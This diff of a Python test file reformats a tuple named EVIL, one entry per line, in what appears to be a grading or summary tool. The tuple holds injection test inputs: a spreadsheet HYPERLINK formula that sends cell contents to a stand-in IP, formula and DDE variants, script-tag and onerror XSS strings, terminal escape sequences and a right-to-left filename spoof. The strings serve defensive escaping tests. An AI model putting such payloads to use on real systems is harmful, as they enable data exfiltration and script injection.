@@ -20,10 +20,24 @@ BEN = Submission(
 CYD = Submission("cyd", "", "", (Answer("a", 0, 2), Answer("w", 0, 3)), 0, seconds=4)
 CLASS = summarise("99-tiny", (ADA, BEN, CYD))
 EVIL = (
-    "'''+str(1/0)+r'''", '=HYPERLINK("http://192.0.2.1/?"&A1,"see")', "@SUM(A1)", "\uff1d1+1", "\t=1+1", " =1+1",
-    "|calc", "![x](http://192.0.2.1/x.png)", "`<img src=x onerror=alert(1)>", "\x1b]0;owned\x07\x1b[2J", "a\n=1+1",
-    "<script>alert(1)</script>", "\u202egpj.exe", "$\\frac{1}{0}$", "\\'''", "{0.__class__}", "\x00\x9b",
-)  # fmt: skip
+    "'''+str(1/0)+r'''",
+    '=HYPERLINK("http://192.0.2.1/?"&A1,"see")',
+    "@SUM(A1)",
+    "\uff1d1+1",
+    "\t=1+1",
+    " =1+1",
+    "|calc",
+    "![x](http://192.0.2.1/x.png)",
+    "`<img src=x onerror=alert(1)>",
+    "\x1b]0;owned\x07\x1b[2J",
+    "a\n=1+1",
+    "<script>alert(1)</script>",
+    "\u202egpj.exe",
+    "$\\frac{1}{0}$",
+    "\\'''",
+    "{0.__class__}",
+    "\x00\x9b",
+)
 
 
 def rows(text: str) -> list[list[str]]:
